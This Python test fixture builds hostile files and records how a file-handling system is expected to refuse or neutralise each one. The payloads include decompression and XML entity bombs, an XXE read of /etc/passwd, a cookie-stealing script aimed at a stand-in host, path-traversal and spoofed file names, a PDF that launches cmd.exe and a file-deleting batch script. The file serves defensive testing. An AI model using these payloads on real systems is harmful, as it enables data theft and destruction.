"""Files made to hurt: whoever opens them, whoever looks at them, whoever stores them. Each is refused or lies inert.

`CORPUS` is name, bytes (or, where that takes long, what makes them: `files.made`), and what becomes of it: the code of
the refusal, or "inert" for one that is taken in, is never run, and whose decoding hurts nothing. The broken and
disguised files of `files.HOSTILE` are the other half.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from tests.evidence.files import (
    PE,
    SVG,
    box,
    docx,
    encoded,
    gif,
    html,
    jpeg,
    mhtml,
    package,
    pdf,
    photo,
    png,
    word_parts,
)  # fmt: skip

SCRIPT = b"<script>fetch('https://ond.example/'+document.cookie)</script>"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with(kind: bytes, data: bytes) -> bytes:
    whole = png()
    return whole[:33] + chunk(kind, data) + whole[33:]


def flat_png(side: int) -> bytes:
    """`side` times `side` pixels of one colour: a hundred million in a hundred kilobytes."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    lines = zlib.compress(b"\x00" * (side + 1) * side, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def jpeg_with(marker: int, data: bytes, times: int = 1) -> bytes:
    whole = jpeg()
    return whole[:2] + (b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data) * times + whole[2:]


def wide_jpeg() -> bytes:
    """Says that it is 65,500 pixels a side."""
    whole = bytearray(encoded(photo(), "JPEG"))
    place = whole.index(b"\xff\xc0")
    whole[place + 5 : place + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(whole)


def circular_exif() -> bytes:
    """A directory of tags whose next directory is itself."""
    return jpeg_with(
        0xE1,
        b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x01\x01\x0f\x00\x02\x00\x00\xff\xff\x00\x00\x00\x08\x00\x00\x00\x08",
    )


def frames(count: int) -> bytes:
    whole = gif()
    start = whole.index(b"!\xf9")
    one = b"!\xf9\x04\x00\x01\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"
    return whole[:start] + one * count + whole[start:]


def huge_gif() -> bytes:
    whole = bytearray(gif())
    whole[6:10] = struct.pack("<HH", 65535, 65535)
    return bytes(whole)


def huge_webp() -> bytes:
    """An extended header with the largest canvas there is."""
    inner = b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4 + b"\xff\xff\xff" * 2
    return b"RIFF" + struct.pack("<I", len(inner) + 4) + b"WEBP" + inner


def pdf_of(page: bytes, *more: bytes, content: bytes = b"BT ET") -> bytes:
    """A PDF with a page dictionary and objects of one's own choosing."""
    packed = zlib.compress(content, 9)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page,
        b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", *more,
    ]  # fmt: skip
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return (
        out + head + rows + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))
    )


_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
_QUIET = b"<</Type/Action/S/Named/N/NextPage>>"


def word(body: str, **more: bytes) -> bytes:
    return package({**word_parts(), "word/document.xml": body.encode(), **more})


def laughs() -> str:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">{rows}]><w:document {_W}><w:t>&l11;</w:t></w:document>'


def stranger() -> str:
    entity = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return f'<?xml version="1.0"?>{entity}<w:document {_W}><w:t>&x;</w:t></w:document>'


def deep_xml(levels: int = 200_000) -> str:
    return f'<?xml version="1.0"?><w:document {_W}>' + "<w:p>" * levels + "</w:p>" * levels + "</w:document>"


def named(name: str) -> bytes:
    return package({**word_parts(), name: b"x"})


def letter(head: str, body: str) -> bytes:
    start = (
        "From: vred@example.dk\r\nTo: anna@example.dk\r\nDate: Fri, 20 Nov 2026 21:19:58 +0100\r\nMIME-Version: 1.0\r\n"
    )
    return f"{start}{head}\r\n\r\n{body}".encode("utf-8", "surrogatepass")


def nested_mail(levels: int = 500) -> bytes:
    head = 'Content-Type: multipart/mixed; boundary="b0"'
    body = "".join(f'--b{n}\r\nContent-Type: multipart/mixed; boundary="b{n + 1}"\r\n\r\n' for n in range(levels))
    return letter(head, body + f"--b{levels}\r\n\r\nhej\r\n")


def attached(name: str) -> bytes:
    part = f'Content-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64'
    return letter('Content-Type: multipart/mixed; boundary="b"', f"--b\r\n{part}\r\n\r\nTVqQAAMAAAAEAAAA\r\n--b--\r\n")


def page_with(body: bytes) -> bytes:
    return b"<!DOCTYPE html><html><body>" + body + b"</body></html>"


def saved(body: str, place: str = "https://example.org/") -> bytes:
    return mhtml().replace(b"https://example.org/opslag/1", place.encode()).replace(b"<svg></svg>", body.encode())


def meta(*parts: bytes) -> bytes:
    return box(b"meta", b"\x00" * 4 + b"".join(parts))


def heic(*parts: bytes) -> bytes:
    return box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + meta(*parts) + box(b"mdat", b"\x00" * 500)


def endless_box(kind: bytes = b"moov") -> bytes:
    return box(b"ftyp", b"isom\x00\x00\x02\x00isom") + struct.pack(">I4s", 0xFFFFFFFF, kind) + b"\x00" * 100


def long_box() -> bytes:
    return box(b"ftyp", b"isom\x00\x00\x02\x00isom") + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1) + b"\x00" * 100


def nested_boxes(levels: int = 20_000) -> bytes:
    inner = b""
    for _ in range(levels):
        inner = struct.pack(">I4s", 8 + len(inner), b"trak") + inner
    return box(b"ftyp", b"isom\x00\x00\x02\x00isom") + box(b"moov", inner) + box(b"mdat", b"\x00" * 100)


def outside_film() -> bytes:
    """A film whose pictures are said to lie in another file of this machine."""
    place = box(b"url ", b"\x00\x00\x00\x00file:///etc/passwd\x00")
    inner = box(
        b"trak", box(b"mdia", box(b"minf", box(b"dinf", box(b"dref", b"\x00" * 4 + b"\x00\x00\x00\x01" + place))))
    )
    sizes = box(b"stsz", b"\x00" * 8 + struct.pack(">I", 2**31))
    return box(b"ftyp", b"qt  \x00\x00\x02\x00qt  ") + box(b"moov", inner + sizes) + box(b"mdat", b"\x00" * 100)


_OUTSIDE = b"\x00" * 4 + b"\x44\x00\x00\x01\x00\x01\x00\x00\x00\x01" + b"\xff" * 8
_HEIC = box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic")
_ISOM = box(b"ftyp", b"isom\x00\x00\x02\x00isom")
_HOME = b'<Relationships><Relationship Target="https://ond.example/x.dotm" TargetMode="External"/></Relationships>'
_LINK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 60
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

CORPUS: tuple[tuple[str, bytes | Callable[[], bytes], str], ...] = (
    # bombs
    ("tekstbombe.png", lambda: png_with(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"a" * 80_000_000, 9)), "broken"),
    ("farvebombe.png", lambda: png_with(b"iCCP", b"p\x00\x00" + zlib.compress(b"\x00" * 80_000_000, 9)), "broken"),
    ("flade.png", lambda: flat_png(9_000), "inert"),
    ("kæmpeflade.png", lambda: flat_png(12_000), "too_many_pixels"),
    ("mange billeder.gif", lambda: frames(50_000), "inert"),
    ("kæmpe.gif", huge_gif(), "too_many_pixels"),
    ("kæmpe.webp", huge_webp(), "broken"),
    ("bred.jpg", lambda: wide_jpeg(), "too_many_pixels"),
    ("strømbombe.pdf", lambda: pdf_of(_PAGE, _QUIET, content=b"BT /F1 9 Tf (ha) Tj ET\n" * 400_000), "inert"),
    ("kæmpeside.pdf", pdf_of(_PAGE.replace(b"595 842", b"99999999 99999999"), _QUIET), "inert"),
    ("latter.docx", word(laughs()), "inert"),
    ("dyb.docx", lambda: word(deep_xml()), "inert"),
    ("dyb mail.eml", lambda: nested_mail(), "inert"),
    ("mange hoveder.eml", lambda: letter("\r\n".join(f"X-{n}: {n}" for n in range(60_000)), "hej"), "inert"),
    ("langt hoved.eml", lambda: letter("Subject: " + "=?utf-8?q?=C3=A5?= " * 60_000, "hej"), "inert"),
    ("langt skel.eml", lambda: letter(f'Content-Type: multipart/mixed; boundary="{"b" * 2_000_000}"', "hej"), "inert"),
    ("dyb side.html", lambda: page_with(b"<div>" * 300_000), "inert"),
    ("en linje.txt", lambda: b"a" * 20_000_000, "inert"),
    # tags and boxes that lie
    ("kreds.jpg", lambda: circular_exif(), "inert"),
    ("mange mærker.jpg", lambda: jpeg_with(0xE5, b"x" * 8, 60_000), "inert"),
    ("falske mærker.jpg", jpeg_with(0xE1, b"Exif\x00\x00II*\x00\xff\xff\xff\xff"), "inert"),
    ("kun kasser.heic", heic(), "broken"),
    ("uden for filen.heic", heic(box(b"iloc", _OUTSIDE)), "broken"),
    ("kæmpe felt.heic", heic(box(b"iprp", box(b"ipco", box(b"ispe", b"\x00" * 4 + b"\xff" * 8)))), "broken"),
    ("endeløs.heic", _HEIC + struct.pack(">I4s", 0xFFFFFFFF, b"meta"), "broken"),
    ("endeløs.mp4", endless_box(), "broken"),
    ("lang.mp4", long_box(), "broken"),
    ("dyb.mp4", lambda: nested_boxes(), "inert"),
    ("andetsteds.mov", outside_film(), "inert"),
    ("ingen længde.mp4", _ISOM + struct.pack(">I4s", 4, b"moov") + b"\x00" * 9, "broken"),
    ("kreds.pdf", pdf_of(b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 999999999/Parent 3 0 R>>", _QUIET), "inert"),
    # two things at once
    ("billede og pakke.png", png() + package({"ond.exe": PE}), "inert"),
    ("billede og side.jpg", jpeg_with(0xFE, SCRIPT), "inert"),
    ("billede og program.gif", b"GIF89a/*" + gif()[8:] + b"*/=1;alert(1)//", "inert"),
    ("side og pakke.pdf", pdf() + package({"ond.exe": PE}) + b"\nstartxref\n0\n%%EOF\n", "inert"),
    ("side med hale.html", html() + PE, "disguised"),
    ("dokument med hale.docx", docx() + SCRIPT, "inert"),
    # script and calls home
    ("script.html", page_with(SCRIPT + b"<img src=x onerror=alert(1)><iframe src=//ond.example>"), "inert"),
    ("videre.html", page_with(b'<meta http-equiv="refresh" content="0;url=https://ond.example/">'), "inert"),
    ("tegning i side.html", page_with(SVG), "inert"),
    ("side.png", page_with(SCRIPT), "inert"),
    ("script.mhtml", saved("<script>alert(1)</script>"), "inert"),
    ("andetsteds.mhtml", saved("hej", "file:///etc/passwd"), "inert"),
    ("script.eml", letter("Content-Type: text/html", "<script>alert(1)</script>"), "inert"),
    ("kodet script.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "inert"),
    ("script.pdf", pdf_of(_PAGE, b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "inert"),
    ("start program.pdf", pdf_of(_PAGE, b"<</S/Launch/F(cmd.exe)>>"), "inert"),
    ("fremmed.docx", word(stranger()), "inert"),
    ("fremmed skabelon.docx", package({**word_parts(), "word/_rels/settings.xml.rels": _HOME}), "inert"),
    ("indlejret.docx", package({**word_parts(), "word/embeddings/oleObject1.bin": PE}), "inert"),
    ("skabelon.dotm", package(word_parts("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")), "macros"),
    ("vba.docx", named("word/VBAPROJECT.BIN"), "macros"),
    # ways out
    ("ud tre.docx", named("word/../../../x"), "broken"),
    ("ud fire.docx", named("..\\..\\x"), "broken"),
    ("ud fem.docx", named("C:x"), "broken"),
    ("vedhæftet.eml", attached("../../etc/cron.d/x"), "inert"),
    ("ukendt sprog.eml", letter("Content-Type: text/plain; charset=punycode", "hej-a"), "inert"),
    # names
    ("../../etc/passwd", b"root:x:0:0\n", "inert"),
    ("..\\..\\windows\\system32\\x.txt", b"hej\n", "inert"),
    ("billede\u202egnp.exe", PE, "program"),
    ("note\u202etxt.png", b"hej\n", "inert"),
    ("nul\x00byte.txt", b"hej igen\n", "inert"),
    ("ny\r\nSet-Cookie: x=1.txt", b"hej tre\n", "inert"),
    ('"; filename="ond.exe.txt', b"hej fire\n", "inert"),
    ("<script>alert(1)</script>.txt", b"hej fem\n", "inert"),
    ("a" * 5000 + ".txt", b"hej seks\n", "inert"),
    ("...", b"hej syv\n", "inert"),
    ("CON.txt", b"hej otte\n", "inert"),
    # programs and packages
    ("test.txt", EICAR, "inert"),
    ("program.jar", package({"META-INF/MANIFEST.MF": b"Main-Class: X"}), "archive"),
    ("pakke.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 60, "archive"),
    ("pakke.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60, "archive"),
    ("pakke.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 60, "archive"),
    ("genvej.lnk", _LINK, "program"),
    ("script.bat", b"@echo off\r\ndel /q *.*\r\n", "program"),
    ("kamera.tif", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 200, "unknown_kind"),
    ("ikon.ico", b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00" + b"\x00" * 90, "unknown_kind"),
    ("skjult.pdf", b"\x00" * 2000 + pdf(), "disguised"),
)  # fmt: skip
